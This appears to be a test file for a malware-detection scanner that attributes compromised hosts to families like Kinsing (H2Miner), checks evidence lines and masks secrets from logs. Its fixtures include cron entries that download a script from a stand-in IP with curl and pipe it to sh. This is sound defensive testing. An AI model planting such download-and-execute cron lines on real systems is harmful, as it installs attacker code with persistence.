/** Whose doing it is, as a whole scan tells it: families in the published result, and where none is named. */
import { afterAll, describe, expect, test } from 'bun:test';
import { type ScannedRoot, scanRoots } from './scan-root.ts';

const roots = scanRoots();
afterAll(() => roots.remove());
const scanned: ScannedRoot = roots.scan;

const system = {
  'etc/os-release': 'ID=debian\nPRETTY_NAME="Debian GNU/Linux 12"\n',
  'etc/passwd': 'root:x:0:0:root:/root:/bin/bash\n',
};
const dropper = '* * * * * root curl -fsSL http://192.0.2.66/x.sh | sh\n';

describe('families of a result', () => {
  test('are attributed with their indicators, the lines of each and the names in both languages', async () => {
    const { families = [], verdict } = await scanned({
      ...system,
      'etc/cron.d/update': '* * * * * root /etc/kinsing >/dev/null 2>&1\n',
    });
    expect(verdict).not.toBe('clean');
    const [first] = families;
    expect(first).toMatchObject({
      id: 'kinsing',
      standing: 'attributed',
      name: { en: 'Kinsing (H2Miner)', 'zh-CN': 'Kinsing（H2Miner）' },
    });
    expect(first?.confidence).toBeGreaterThan(50);
    const decisive = first?.indicators.find(({ value }) => value === '/etc/kinsing');
    expect(decisive).toMatchObject({ kind: 'file-path', weight: 3, shared: false });
    expect(decisive?.evidence[0]).toMatchObject({ source: '/etc/cron.d/update', line: 1 });
  });

  test('are none where only names stand there that others use as well', async () => {
    const { families = [], verdict } = await scanned({
      ...system,
      'etc/cron.d/update': '* * * * * root curl -fsSL http://192.0.2.66/kdevtmpfsi | sh\n',
    });
    expect(verdict).not.toBe('clean');
    expect(families.filter(({ standing }) => standing === 'attributed')).toEqual([]);
  });

  test('are none for a planted file of one byte', async () => {
    const { families = [] } = await scanned({ ...system, 'etc/cron.d/update': dropper, 'tmp/kinsing': 'x' });
    expect(families.filter(({ id, standing }) => id === 'kinsing' && standing === 'attributed')).toEqual([]);
  });

  test('are named from what logs say was run, with the secrets of those lines masked', async () => {
    const { families = [] } = await scanned({
      ...system,
      'etc/cron.d/update': dropper,
      'var/log/cron':
        '2024-01-02T05:00:00Z web-1 CROND[3]: (root) CMD (DB_PASSWORD=hunter2Correct /tmp/kinsing)\n',
    });
    const kinsing = families.find(({ id }) => id === 'kinsing');
    expect(kinsing?.standing).toBe('attributed');
    const texts = kinsing?.indicators.flatMap(({ evidence }) => evidence) ?? [];
    expect(texts.map(({ source }) => source)).toContain('/var/log/cron');
    expect(JSON.stringify(kinsing)).not.toContain('hunter2');
  });

  test('are not looked for on a host where nothing was found', async () => {
    const { families, verdict } = await scanned({
      ...system,
      'root/notes.txt': 'kinsing drops /tmp/kinsing and /etc/kinsing\n',
      'var/log/auth.log':
        '2024-01-02T05:00:00Z web-1 sshd[3]: Invalid user /tmp/kinsing from 203.0.113.9 port 1\n',
    });
    expect(verdict).toBe('clean');
    expect(families).toBeUndefined();
  });
});
